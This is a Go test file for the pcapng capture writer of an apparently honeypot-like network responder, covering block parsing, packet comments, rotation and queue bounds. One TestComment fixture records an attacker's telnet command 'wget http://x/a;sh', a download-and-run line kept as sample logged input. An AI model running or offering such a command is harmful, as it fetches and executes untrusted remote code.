package capture

import (
	"bytes"
	"encoding/binary"
	"errors"
	"io"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gopacket/gopacket/pcapgo"

	"github.com/masscanned-go/masscanned/internal/event"
)

// frames is a Frames for tests (the run loop gives a stack.Tx).
type frames [][]byte

func (f *frames) Len() int           { return len(*f) }
func (f *frames) Frame(i int) []byte { return (*f)[i] }

func frame(n int, b byte) []byte { return bytes.Repeat([]byte{b}, n) }

// pkt is one Enhanced Packet Block read back from raw bytes.
type pkt struct {
	iface   uint32
	ts      int64
	data    []byte
	comment string
	flags   uint32
	hasFlag bool
}

// parseRaw walks a little-endian pcapng file block by block, checking
// each block's framing, and returns the packets and the interface's
// if_tsresol.
func parseRaw(t *testing.T, b []byte) (pkts []pkt, tsresol int, shb, idb int) {
	t.Helper()
	tsresol = -1
	for len(b) > 0 {
		if len(b) < 12 {
			t.Fatalf("trailing %d bytes", len(b))
		}
		typ := binary.LittleEndian.Uint32(b)
		n := int(binary.LittleEndian.Uint32(b[4:]))
		if n%4 != 0 || n < 12 || n > len(b) {
			t.Fatalf("block %#x: bad length %d (%d left)", typ, n, len(b))
		}
		if tail := int(binary.LittleEndian.Uint32(b[n-4:])); tail != n {
			t.Fatalf("block %#x: trailing length %d != %d", typ, tail, n)
		}
		body := b[8 : n-4]
		switch typ {
		case 0x0a0d0d0a:
			shb++
			if binary.LittleEndian.Uint32(body) != 0x1a2b3c4d {
				t.Fatal("SHB: bad byte-order magic")
			}
			if maj := binary.LittleEndian.Uint16(body[4:]); maj != 1 {
				t.Fatalf("SHB: version %d", maj)
			}
		case 1:
			idb++
			if lt := binary.LittleEndian.Uint16(body); lt != 1 {
				t.Fatalf("IDB: link type %d, want 1 (Ethernet)", lt)
			}
			eachOption(t, body[8:], func(code uint16, v []byte) {
				if code == 9 && len(v) == 1 {
					tsresol = int(v[0])
				}
			})
		case 6:
			if idb == 0 {
				t.Fatal("EPB before any IDB")
			}
			var p pkt
			p.iface = binary.LittleEndian.Uint32(body)
			p.ts = int64(binary.LittleEndian.Uint32(body[4:]))<<32 | int64(binary.LittleEndian.Uint32(body[8:]))
			capLen := int(binary.LittleEndian.Uint32(body[12:]))
			origLen := int(binary.LittleEndian.Uint32(body[16:]))
			if capLen != origLen {
				t.Fatalf("EPB: captured %d of %d", capLen, origLen)
			}
			p.data = body[20 : 20+capLen]
			eachOption(t, body[20+pad4(capLen):], func(code uint16, v []byte) {
				switch code {
				case 1:
					p.comment = string(v)
				case 2:
					p.flags, p.hasFlag = binary.LittleEndian.Uint32(v), true
				}
			})
			pkts = append(pkts, p)
		default:
			t.Fatalf("unexpected block type %#x", typ)
		}
		b = b[n:]
	}
	return pkts, tsresol, shb, idb
}

func eachOption(t *testing.T, b []byte, fn func(code uint16, v []byte)) {
	t.Helper()
	for len(b) >= 4 {
		code := binary.LittleEndian.Uint16(b)
		n := int(binary.LittleEndian.Uint16(b[2:]))
		if code == 0 {
			if n != 0 || len(b) != 4 {
				t.Fatalf("opt_endofopt: length %d, %d bytes after", n, len(b)-4)
			}
			return
		}
		if 4+pad4(n) > len(b) {
			t.Fatalf("option %d: length %d beyond block", code, n)
		}
		fn(code, b[4:4+n])
		b = b[4+pad4(n):]
	}
	if len(b) != 0 {
		t.Fatalf("options: %d stray bytes", len(b))
	}
}

func files(t *testing.T, dir string) []string {
	t.Helper()
	m, err := filepath.Glob(filepath.Join(dir, "*"))
	if err != nil {
		t.Fatal(err)
	}
	slices.Sort(m)
	return m
}

var (
	cli = netip.MustParseAddrPort("192.0.2.1:40000")
	srv = netip.MustParseAddrPort("198.51.100.1:22")
)

func tcpEvent(at time.Time) event.Event {
	return event.Event{Time: at, Layer: "tcp", IPProto: 6, SrcIP: cli.Addr(), SrcPort: cli.Port(), DstIP: srv.Addr(), DstPort: srv.Port()}
}

// TestRawBlocks: one file, SHB + IDB (if_tsresol 9) then one EPB per
// packet with its comment and direction, in order, nanosecond timestamps.
func TestRawBlocks(t *testing.T) {
	dir := t.TempDir()
	var opened []string
	c, err := Open(Options{Path: filepath.Join(dir, "cap.pcapng"), Interface: "veth0", Application: "masscanned test",
		OnFile: func(p, why string) { opened = append(opened, filepath.Base(p)+" "+why) }})
	if err != nil {
		t.Fatal(err)
	}
	var tx frames
	tap := c.NewTap(nil)
	tap.Bind(&tx)
	t0 := time.Unix(1700000000, 123456789)

	// a SYN answered with a SYN-ACK
	ev := tcpEvent(t0)
	ev.Verdict, ev.Reply = event.Answered, "syn-ack"
	tx = frames{frame(58, 2)}
	tap.Frame(t0, frame(74, 1), &ev)
	// a dropped frame, no reply
	ev = tcpEvent(t0.Add(time.Nanosecond))
	ev.Drop("tcp", event.ReasonBadCookie)
	tx = tx[:0]
	tap.Frame(t0.Add(time.Nanosecond), frame(60, 3), &ev)
	// a request answered by the application
	ev = tcpEvent(t0.Add(2 * time.Microsecond))
	ev.Verdict, ev.Reply = event.Answered, "data"
	ev.App = &event.App{Proto: "http", Fields: []event.Field{{Key: "method", Value: "GET"}, {Key: "uri", Value: "/a b"}}}
	tx = frames{frame(100, 5), frame(66, 6)}
	tap.Frame(t0.Add(2*time.Microsecond), frame(120, 4), &ev)
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	fs := files(t, dir)
	if len(fs) != 1 || filepath.Base(fs[0]) != "cap-000001.pcapng" {
		t.Fatalf("files %v", fs)
	}
	if len(opened) != 1 || opened[0] != "cap-000001.pcapng start" {
		t.Errorf("OnFile: %v", opened)
	}
	raw, err := os.ReadFile(fs[0])
	if err != nil {
		t.Fatal(err)
	}
	pkts, tsresol, shb, idb := parseRaw(t, raw)
	if shb != 1 || idb != 1 || tsresol != 9 {
		t.Fatalf("SHB %d IDB %d if_tsresol %d", shb, idb, tsresol)
	}
	want := []struct {
		first   byte
		n       int
		dir     uint32
		ts      int64
		comment string
	}{
		{1, 74, 1, t0.UnixNano(), "send reply=syn-ack"},
		{2, 58, 2, t0.UnixNano(), "send reply=syn-ack"},
		{3, 60, 1, t0.UnixNano() + 1, "drop reason=bad-cookie"},
		{4, 120, 1, t0.UnixNano() + 2000, `send reply=data app=http method=GET uri="/a b"`},
		{5, 100, 2, t0.UnixNano() + 2000, `send reply=data app=http method=GET uri="/a b"`},
		{6, 66, 2, t0.UnixNano() + 2000, `send reply=data app=http method=GET uri="/a b"`},
	}
	if len(pkts) != len(want) {
		t.Fatalf("%d packets, want %d", len(pkts), len(want))
	}
	for i, w := range want {
		p := pkts[i]
		if p.iface != 0 || len(p.data) != w.n || p.data[0] != w.first || p.ts != w.ts || !p.hasFlag || p.flags != w.dir || p.comment != w.comment {
			t.Errorf("packet %d: iface %d len %d first %d ts %d flags %d/%v comment %q; want len %d first %d ts %d dir %d %q",
				i, p.iface, len(p.data), p.data[0], p.ts, p.flags, p.hasFlag, p.comment, w.n, w.first, w.ts, w.dir, w.comment)
		}
	}
	if c.Written() != 6 || c.Dropped() != 0 || c.Errors() != 0 || c.Files() != 1 {
		t.Errorf("written %d dropped %d errors %d files %d", c.Written(), c.Dropped(), c.Errors(), c.Files())
	}
	// gopacket's reader agrees
	f, _ := os.Open(fs[0])
	defer f.Close()
	r, err := pcapgo.NewNgReader(f, pcapgo.DefaultNgReaderOptions)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; ; i++ {
		data, ci, opts, err := r.ReadPacketDataWithOptions()
		if errors.Is(err, io.EOF) {
			if i != len(want) {
				t.Errorf("pcapgo read %d packets", i)
			}
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if !ci.Timestamp.Equal(time.Unix(0, want[i].ts)) || len(data) != want[i].n || len(opts.Comments) != 1 || opts.Comments[0] != want[i].comment {
			t.Errorf("pcapgo packet %d: %v %d %q", i, ci.Timestamp, len(data), opts.Comments)
		}
	}
}

// TestTimerMarks: Tick's replies are split between the timer actions that
// emitted them (by their ReplyLen); frames no action claimed are "timer".
func TestTimerMarks(t *testing.T) {
	dir := t.TempDir()
	c, err := Open(Options{Path: filepath.Join(dir, "cap")})
	if err != nil {
		t.Fatal(err)
	}
	var got []*event.Event
	tap := c.NewTap(func(e *event.Event) { got = append(got, e) })
	var tx frames
	tap.Bind(&tx)
	now := time.Unix(1700000100, 0)
	// a retransmitted SYN-ACK
	tx = append(tx, frame(58, 1))
	ev := tcpEvent(now)
	ev.Kind, ev.Verdict, ev.Reply, ev.Reason, ev.ReplyLen = event.KindTimer, event.Answered, "syn-ack", event.ReasonRetransmit, 58
	tap.Emit(&ev)
	// a FIN that no event claims (a greeter closing without a reply)
	tx = append(tx, frame(54, 2))
	// library output in two segments
	tx = append(tx, frame(1514, 3), frame(200, 4))
	ev = tcpEvent(now)
	ev.Kind, ev.Verdict, ev.Reply, ev.ReplyLen = event.KindTimer, event.Answered, "data", 1714
	tap.Emit(&ev)
	// a connection end: no packet
	end := tcpEvent(now)
	end.Kind, end.Conn.End = event.KindConnEnd, event.EndFIN
	tap.Emit(&end)
	tap.Tick(now)
	// the next Tick has nothing
	tx = tx[:0]
	tap.Tick(now.Add(time.Second))
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 {
		t.Errorf("%d events passed on, want 3", len(got))
	}
	raw, err := os.ReadFile(filepath.Join(dir, "cap-000001.pcapng"))
	if err != nil {
		t.Fatal(err)
	}
	pkts, _, _, _ := parseRaw(t, raw)
	var comments []string
	for _, p := range pkts {
		if p.flags != 2 {
			t.Errorf("packet %d not outbound", p.data[0])
		}
		comments = append(comments, string('0'+p.data[0])+" "+p.comment)
	}
	want := []string{"1 timer reason=retransmit reply=syn-ack", "2 timer", "3 timer reply=data", "4 timer reply=data"}
	if !slices.Equal(comments, want) {
		t.Errorf("comments\n%q\nwant\n%q", comments, want)
	}
}

// TestNotes: an application record of a library (no packet) is attached
// to its connection's next packet, whichever goroutine emitted it.
func TestNotes(t *testing.T) {
	dir := t.TempDir()
	c, err := Open(Options{Path: filepath.Join(dir, "cap.pcapng")})
	if err != nil {
		t.Fatal(err)
	}
	tap := c.NewTap(nil)
	var tx frames
	tap.Bind(&tx)
	now := time.Unix(1700000200, 0)
	done := make(chan struct{})
	go func() { // a library goroutine
		defer close(done)
		a := tcpEvent(now)
		a.Kind, a.App = event.KindApp, &event.App{Proto: "ssh", Fields: []event.Field{
			{Key: "user", Value: "root"}, event.AuthField("ssh", "root", "123 456", false)}}
		tap.Emit(&a)
	}()
	<-done
	a2 := tcpEvent(now)
	a2.Kind, a2.App = event.KindApp, &event.App{Proto: "ssh", Fields: []event.Field{{Key: "user", Value: "admin"}}}
	tx = frames{frame(90, 1)}
	ev := tcpEvent(now)
	ev.Kind, ev.Verdict, ev.Reply, ev.ReplyLen = event.KindTimer, event.Answered, "data", 90
	tap.Emit(&ev)
	tap.Tick(now)
	// another connection's reply gets nothing
	other := tcpEvent(now)
	other.SrcPort++
	tx = frames{frame(54, 2)}
	tap.Frame(now, frame(60, 2), &other)
	// the note was used once
	tx = tx[:0]
	tap.Frame(now, frame(60, 3), func() *event.Event { e := tcpEvent(now); return &e }())
	// a received frame without reply does not take a note: the next reply does
	tap.Emit(&a2)
	tx = tx[:0]
	tap.Frame(now, frame(60, 4), func() *event.Event { e := tcpEvent(now); return &e }())
	tx = frames{frame(54, 5)}
	tap.Frame(now, frame(60, 6), func() *event.Event { e := tcpEvent(now); e.Verdict, e.Reply = event.Answered, "ack"; return &e }())
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	raw, _ := os.ReadFile(filepath.Join(dir, "cap-000001.pcapng"))
	pkts, _, _, _ := parseRaw(t, raw)
	var comments []string
	for _, p := range pkts {
		comments = append(comments, p.comment)
	}
	want := []string{`timer reply=data app=ssh user=root auth="ssh user=root password=123 456"`, "recv", "recv", "recv", "recv",
		"send reply=ack app=ssh user=admin", "send reply=ack app=ssh user=admin"}
	if !slices.Equal(comments, want) {
		t.Errorf("comments\n%q\nwant\n%q", comments, want)
	}
}

// TestRotateSize: no file exceeds the size unless it holds a single
// packet; every file is complete; numbering continues after existing
// files; the size tracked is the file's.
func TestRotateSize(t *testing.T) {
	dir := t.TempDir()
	// an earlier run's files
	for _, n := range []string{"cap-000007.pcapng", "cap-7.pcapng", "cap-00000x.pcapng", "other-000099.pcapng"} {
		if err := os.WriteFile(filepath.Join(dir, n), nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	const limit = 2000
	c, err := Open(Options{Path: filepath.Join(dir, "cap.pcapng"), RotateSize: limit})
	if err != nil {
		t.Fatal(err)
	}
	tap := c.NewTap(nil)
	var tx frames
	tap.Bind(&tx)
	now := time.Unix(1700000300, 0)
	sizes := []int{60, 1514, 60, 3000, 60, 60, 60, 100, 900, 60}
	for i, n := range sizes {
		ev := tcpEvent(now)
		tap.Frame(now, frame(n, byte(i)), &ev)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	total := 0
	var names []string
	for _, f := range files(t, dir) {
		name := filepath.Base(f)
		if !strings.HasPrefix(name, "cap-") || name <= "cap-000007.pcapng" || !strings.HasSuffix(name, ".pcapng") ||
			len(name) != len("cap-000008.pcapng") || strings.Trim(name[4:10], "0123456789") != "" {
			continue
		}
		names = append(names, name)
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		pkts, _, shb, idb := parseRaw(t, raw)
		if shb != 1 || idb != 1 || len(pkts) == 0 {
			t.Errorf("%s: SHB %d IDB %d packets %d", name, shb, idb, len(pkts))
		}
		if len(raw) > limit && len(pkts) > 1 {
			t.Errorf("%s: %d bytes with %d packets", name, len(raw), len(pkts))
		}
		for _, p := range pkts {
			if int(p.data[0]) != total {
				t.Errorf("%s: packet %d out of order", name, p.data[0])
			}
			total++
		}
	}
	if total != len(sizes) || names[0] != "cap-000008.pcapng" || uint64(len(names)) != c.Files() {
		t.Errorf("%d packets in %v (files %d)", total, names, c.Files())
	}
}

// TestReopenAndTime: Reopen starts a new file; so does age, but only for
// a file with packets.
func TestReopenAndTime(t *testing.T) {
	dir := t.TempDir()
	whys := make(chan string, 16)
	c, err := Open(Options{Path: filepath.Join(dir, "cap.pcapng"), RotateEvery: 50 * time.Millisecond,
		OnFile: func(p, why string) { whys <- why }})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	tap := c.NewTap(nil)
	var tx frames
	tap.Bind(&tx)
	if w := <-whys; w != "start" {
		t.Fatalf("first file: %s", w)
	}
	c.Reopen()
	if w := <-whys; w != "reopen" {
		t.Fatalf("after Reopen: %s", w)
	}
	// an empty file is not rotated by age: the next file comes after a packet
	time.Sleep(300 * time.Millisecond)
	if n := c.Files(); n != 2 {
		t.Fatalf("%d files before any packet", n)
	}
	ev := tcpEvent(time.Now())
	tap.Frame(time.Now(), frame(60, 1), &ev)
	select {
	case w := <-whys:
		if w != "time" {
			t.Fatalf("after a packet: %s", w)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("no rotation by time")
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	if fs := files(t, dir); len(fs) != 3 {
		t.Errorf("files %v", fs)
	}
}

// TestQueueFull: when the queue is full records are dropped and their
// packets counted, never blocking; what was queued is written.
func TestQueueFull(t *testing.T) {
	dir := t.TempDir()
	c, err := open(Options{Path: filepath.Join(dir, "cap.pcapng"), Queue: 2})
	if err != nil {
		t.Fatal(err)
	}
	tap := c.NewTap(nil)
	var tx frames
	tap.Bind(&tx)
	now := time.Now()
	for i := range 4 {
		ev := tcpEvent(now)
		tx = frames{frame(54, 9)}
		tap.Frame(now, frame(60, byte(i)), &ev)
	}
	if c.Dropped() != 4 {
		t.Errorf("dropped %d packets, want 4", c.Dropped())
	}
	go c.run()
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	if c.Written() != 4 {
		t.Errorf("written %d, want 4", c.Written())
	}
	// closed: counted as dropped
	ev := tcpEvent(now)
	tap.Frame(now, frame(60, 1), &ev)
	if c.Dropped() != 6 {
		t.Errorf("dropped %d after close, want 6", c.Dropped())
	}
}

// TestBytesBound: the bytes held by queued records are bounded too.
func TestBytesBound(t *testing.T) {
	c, err := open(Options{Path: filepath.Join(t.TempDir(), "cap.pcapng"), MaxBytes: 1000})
	if err != nil {
		t.Fatal(err)
	}
	tap := c.NewTap(nil)
	var tx frames
	tap.Bind(&tx)
	ev := tcpEvent(time.Now())
	tap.Frame(ev.Time, frame(600, 1), &ev)
	tap.Frame(ev.Time, frame(600, 2), &ev)
	if c.Dropped() != 1 {
		t.Errorf("dropped %d, want 1", c.Dropped())
	}
	go c.run()
	if err := c.Close(); err != nil || c.Written() != 1 {
		t.Errorf("close: %v, written %d", err, c.Written())
	}
}

// TestNoAllocs: the packet path does not allocate once the pool is warm.
func TestNoAllocs(t *testing.T) {
	c, err := open(Options{Path: filepath.Join(t.TempDir(), "cap.pcapng"), Queue: 4})
	if err != nil {
		t.Fatal(err)
	}
	tap := c.NewTap(nil)
	tx := frames{frame(58, 2)}
	tap.Bind(&tx)
	in := frame(74, 1)
	ev := tcpEvent(time.Now())
	ev.Verdict, ev.Reply = event.Answered, "syn-ack"
	timer := tcpEvent(time.Now())
	timer.Kind, timer.Verdict, timer.Reply, timer.ReplyLen = event.KindTimer, event.Answered, "syn-ack", 58
	drain := func() { discard(tap) }
	step := func() {
		tap.Frame(ev.Time, in, &ev)
		tap.Emit(&timer)
		tap.Tick(ev.Time)
		drain()
	}
	step()
	if n := testing.AllocsPerRun(1000, step); n != 0 {
		t.Errorf("%v allocations per frame", n)
	}
	if c.Dropped() != 0 {
		t.Errorf("dropped %d", c.Dropped())
	}
	go c.run()
	c.Close()
}

func TestComment(t *testing.T) {
	long := strings.Repeat("é", 200)
	tests := []struct {
		r    record
		want string
	}{
		{record{verdict: event.Received}, "recv"},
		{record{verdict: event.Received, reason: "no-app-answer"}, "recv reason=no-app-answer"},
		{record{verdict: event.Answered, suppressed: "syn-ack", reason: "rate-limited"}, "send reason=rate-limited suppressed=syn-ack"},
		{record{verdict: event.Answered, reply: "data", app: &event.App{Proto: "telnet", Fields: []event.Field{
			{Key: "cmd", Value: "wget http://x/a;sh"}, {Key: "bad key=\"", Value: []byte("\xff\x00")}, {Key: "n", Value: 3}, {Key: "ok", Value: true},
			{Key: "list", Value: []string{"a", "b"}}, {Key: "empty", Value: ""}}}},
			`send reply=data app=telnet cmd="wget http://x/a;sh" bad_key__="\xff\x00" n=3 ok=true list=a,b`},
		{record{kind: "timer", reply: "greeting", app: &event.App{Proto: "ftp"}}, "timer reply=greeting app=ftp"},
		{record{verdict: event.Received, app: &event.App{Proto: "x", Fields: []event.Field{{Key: "v", Value: long}}}},
			"recv app=x v=" + strings.Repeat("é", 128) + "..."},
	}
	for _, tc := range tests {
		got := string(capComment(appendComment(nil, &tc.r)))
		if got != tc.want {
			t.Errorf("got  %q\nwant %q", got, tc.want)
		}
	}
	// a comment is bounded and stays valid UTF-8
	var fields []event.Field
	for range 100 {
		fields = append(fields, event.Field{Key: "k", Value: long})
	}
	b := capComment(appendComment(nil, &record{app: &event.App{Proto: "x", Fields: fields}}))
	if len(b) > maxComment || !strings.HasSuffix(string(b), "...") || !utf8Valid(b) {
		t.Errorf("long comment: %d bytes, valid %v", len(b), utf8Valid(b))
	}
}

func utf8Valid(b []byte) bool { return strings.ToValidUTF8(string(b), "\uFFFD") == string(b) }

func TestParseSize(t *testing.T) {
	tests := []struct {
		in   string
		want int64
		err  bool
	}{
		{"4096", 4096, false},
		{"100M", 100 << 20, false},
		{"1G", 1 << 30, false},
		{"1g", 1 << 30, false},
		{"512KiB", 512 << 10, false},
		{"2TB", 2 << 40, false},
		{"10B", 10, false},
		{" 64k ", 64 << 10, false},
		{"0", 0, false},
		{"", 0, true},
		{"M", 0, true},
		{"1.5G", 0, true},
		{"-1M", 0, true},
		{"+1M", 0, true},
		{"10X", 0, true},
		{"99999999999T", 0, true},
	}
	for _, tc := range tests {
		got, err := ParseSize(tc.in)
		if (err != nil) != tc.err || got != tc.want {
			t.Errorf("ParseSize(%q) = %d, %v", tc.in, got, err)
		}
	}
}

func TestFileName(t *testing.T) {
	for _, tc := range [][3]string{
		{"cap.pcapng", "1", "cap-000001.pcapng"},
		{"/var/lib/m/cap", "12", "/var/lib/m/cap-000012.pcapng"},
		{"dir.d/x.pcap", "1234567", "dir.d/x-1234567.pcap"},
	} {
		n := 0
		for _, d := range tc[1] {
			n = n*10 + int(d-'0')
		}
		if got := FileName(tc[0], n); got != tc[2] {
			t.Errorf("FileName(%q, %d) = %q, want %q", tc[0], n, got, tc[2])
		}
	}
}

// TestOpenError: a directory that cannot be written is reported at Open.
func TestOpenError(t *testing.T) {
	if _, err := Open(Options{Path: filepath.Join(t.TempDir(), "missing", "cap.pcapng")}); err == nil {
		t.Fatal("no error for a missing directory")
	}
}

// TestSizeTracked: the size the writer tracks (for rotation) is the
// file's, whatever the frame and comment lengths.
func TestSizeTracked(t *testing.T) {
	c, err := open(Options{Path: filepath.Join(t.TempDir(), "cap.pcapng")})
	if err != nil {
		t.Fatal(err)
	}
	for n := range 9 {
		for m := range 6 {
			r := &record{t: time.Now(), verdict: event.Received, reason: strings.Repeat("r", m), buf: frame(60+n, 1), ends: []int{60 + n}}
			c.write(r, 0, 0)
		}
	}
	f := c.cur
	if err := f.bw.Flush(); err != nil {
		t.Fatal(err)
	}
	st, err := f.f.Stat()
	if err != nil {
		t.Fatal(err)
	}
	if st.Size() != f.size {
		t.Errorf("tracked %d bytes, file has %d", f.size, st.Size())
	}
	go c.run()
	c.Close()
}

// discard empties tp's queue as the writer would, without writing.
func discard(tp *Tap) {
	q := &tp.q
	for h := q.head.Load(); h != q.tail.Load(); h++ {
		r := &q.slots[h&q.mask]
		q.held.Add(-int64(len(r.buf)))
		r.app = nil
		q.head.Store(h + 1)
	}
}

// TestNoteOrder: a note goes with the first reply queued after it was
// made, even when the writer lags behind both.
func TestNoteOrder(t *testing.T) {
	dir := t.TempDir()
	c, err := open(Options{Path: filepath.Join(dir, "cap.pcapng")})
	if err != nil {
		t.Fatal(err)
	}
	tap := c.NewTap(nil)
	var tx frames
	tap.Bind(&tx)
	now := time.Unix(1700000400, 0)
	reply := func(b byte) {
		tx = frames{frame(70, b)}
		ev := tcpEvent(now)
		ev.Kind, ev.Verdict, ev.Reply, ev.ReplyLen = event.KindTimer, event.Answered, "data", 70
		tap.Emit(&ev)
		tap.Tick(now)
	}
	reply(1)
	a := tcpEvent(now)
	a.Kind, a.App = event.KindApp, &event.App{Proto: "ssh", Fields: []event.Field{{Key: "user", Value: "root"}}}
	tap.Emit(&a)
	reply(2)
	go c.run()
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	raw, _ := os.ReadFile(filepath.Join(dir, "cap-000001.pcapng"))
	pkts, _, _, _ := parseRaw(t, raw)
	if len(pkts) != 2 || pkts[0].comment != "timer reply=data" || pkts[1].comment != "timer reply=data app=ssh user=root" {
		t.Errorf("packets %+v", pkts)
	}
}
